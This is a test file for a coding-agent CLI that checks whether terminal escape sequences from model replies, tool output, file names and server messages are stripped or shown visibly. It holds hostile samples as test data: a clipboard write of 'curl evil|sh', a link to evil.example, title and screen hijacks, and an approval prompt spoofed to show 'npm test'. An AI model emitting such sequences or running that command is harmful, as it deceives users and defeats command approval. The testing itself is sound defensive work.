import {createServer} from 'node:http'
import type {AddressInfo} from 'node:net'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {approvalChoices, approvalQuestion} from '../../../src/agent/interactive/approval-prompt.js'
import {painter} from '../../../src/agent/interactive/paint.js'
import {TerminalView} from '../../../src/agent/interactive/terminal-view.js'
import {type RunningSim, startSim} from '../../../src/engines/sim.js'
import {buildIndex} from '../../../src/rag/build-index.js'
import {renderIndexReport} from '../../../src/rag/render-index.js'
import {renderSearchAnswer} from '../../../src/rag/render-search.js'
import {runCli} from '../../support/run-cli.js'
import {runAgentCli} from '../run-agent-cli.js'
import {tempRepo} from '../temp-repo.js'

// Model text and tool output reached the terminal raw: a screen clear, a window title, an OSC 8 link, an OSC 52
// clipboard write of `curl evil|sh`, and an approval prompt that showed `touch X # \r\e[2Knpm test` as `npm test`.
// Every way oac prints (-p text mode, the interactive view, oac search) removes them; the approval prompt shows them.

const ESC = '\u001b'
const BEL = '\u0007'
const HOSTILE = `${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`
// Anything that starts a sequence: ESC, the C1 controls, and the carriage return and backspace that rewrite a line.
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

let sim: RunningSim
beforeAll(async () => {
  sim = await startSim(
    {port: 0, ttftMs: 0, itlMs: 0},
    {
      mode: 'ordered',
      rules: [
        {
          reply: {
            content: `Let me look.${HOSTILE}`,
            toolCalls: [{name: 'bash', arguments: {command: "printf '\\033]0;t\\007\\033[2Jtool\\r\\n'"}}],
          },
        },
        {match: {toolResult: 'tool'}, reply: {content: `Done${HOSTILE}.\r\nAll good.`}},
      ],
    },
  )
})
afterAll(() => sim.close())

describe('what reaches the terminal', () => {
  it('oac agent -p (text): the answer on stdout and the progress on stderr carry no escape sequence', async () => {
    const repo = await tempRepo({'a.txt': 'x\n'})
    const r = await runAgentCli(['-p', 'look', '--endpoint', sim.baseUrl, '--model', 'sim-model', '--yes'], {cwd: repo})
    expect(r.exitCode, r.stderr).toBe(0)
    expect(r.stdout).toBe('Donedocs.\nAll good.')
    expect(r.stderr).toContain('✓ tool [exit code 0]')
    expect(r.stderr).not.toMatch(CONTROL)
  })

  it('the interactive view: reply, reasoning, tool output and diffs are cleaned, its own styling stays', () => {
    const lines: string[] = []
    const out = {
      print: (t: string) => lines.push(t),
      partial: (t: string) => lines.push(`partial:${t}`),
      width: () => 100,
    }
    const view = new TerminalView(out, painter(true), '/repo')
    view.event({type: 'delta', turn: 1, text: `thinking${HOSTILE}\n`, reasoning: true})
    view.event({type: 'delta', turn: 1, text: `reply${HOSTILE}\r\n`, reasoning: false})
    view.event({type: 'usage', turn: 1, promptTokens: 1, completionTokens: 1, estimated: false})
    view.event({
      type: 'tool_call',
      turn: 1,
      id: 'c',
      name: 'bash',
      arguments: JSON.stringify({command: `ls${HOSTILE}`}),
    })
    view.event({
      type: 'tool_result',
      turn: 1,
      id: 'c',
      name: 'bash',
      output: `out${HOSTILE}\n[exit code 1]`,
      isError: true,
    })
    view.event({type: 'notice', message: `MCP server ${HOSTILE}x`})
    view.fileChanged({path: '/repo/a.txt', before: 'a\n', after: `a${HOSTILE}\n`})
    const printed = lines.join('\n')
    // Only SGR styling (ESC [ ... m) is left, and the text is all there.
    expect(printed.split(ESC).every((part, i) => i === 0 || /^\[[0-9;]*m/.test(part))).toBe(true)
    expect(printed.replaceAll(ESC, '')).not.toMatch(CONTROL)
    expect(printed).toContain(`${ESC}[2mthinkingdocs${ESC}[22m`)
    for (const text of ['replydocs', 'bash $ lsdocs', 'outdocs', 'MCP server docsx', '+adocs'])
      expect(printed).toContain(text)
  })

  it('oac search: snippets from indexed files are cleaned', () => {
    const chunk = {location: 'a.ts:1-2', startLine: 1, endLine: 2, kind: 'function', symbol: `f${HOSTILE}`}
    const file = {
      path: `a${HOSTILE}.ts`,
      kind: 'code' as const,
      score: 1,
      chunks: [{...chunk, snippet: `code${HOSTILE}\nmore`}],
    }
    const text = renderSearchAnswer({query: 'q', mode: 'lexical', ran: 'lexical', files: [file], ms: 1})
    expect(text).not.toMatch(CONTROL)
    expect(text).toContain('adocs.ts  1.0000\n  1-2  function fdocs\n      codedocs\n      more')
  })

  it('oac index: the file names it lists (a repository names its own files) are cleaned', async () => {
    const repo = await tempRepo({'a.ts': 'export const a = 1\n', [`logo${ESC}]0;pwned${BEL}${ESC}[2J.png`]: 'x'})
    const text = renderIndexReport(await buildIndex({root: repo}))
    expect(text).not.toMatch(CONTROL)
    expect(text).toContain('  logo.png: binary (binary file type)')
  })

  it('any oac command: what a server says (a model id, an error) is cleaned on stdout and stderr', async () => {
    const models = JSON.stringify({object: 'list', data: [{id: `served${HOSTILE}`}]})
    const server = createServer((req, res) => {
      res.writeHead(req.url?.endsWith('/models') ? 200 : 500, {'content-type': 'application/json'})
      res.end(req.url?.endsWith('/models') ? models : JSON.stringify({error: {message: `boom${HOSTILE}`}}))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`
      const text = await runCli(['bench', '--endpoint', url, '--model', 'm', '--num-prompts', '1', '--no-save'])
      expect(text.exitCode).toBe(1)
      expect(text.stderr).toContain('it serves: serveddocs')
      expect(text.stdout + text.stderr).not.toMatch(CONTROL)
    } finally {
      server.close()
    }
  })

  it('the approval prompt shows the exact command, its control characters visible', () => {
    const command = `touch X # \r${ESC}[2Knpm test`
    const request = {tool: 'bash', summary: command, dangerous: false, args: {command}}
    expect(approvalQuestion(request)).toBe('Run this command?\n  $ touch X # \\r\\e[2Knpm test')
    expect(approvalChoices(request)).not.toMatch(CONTROL)
    const write = {tool: 'write', summary: 'x', dangerous: false, args: {path: `a${ESC}]0;t${BEL}.txt`}}
    expect(approvalQuestion(write)).toBe('Allow write on a\\e]0;t\\a.txt?')
  })
})
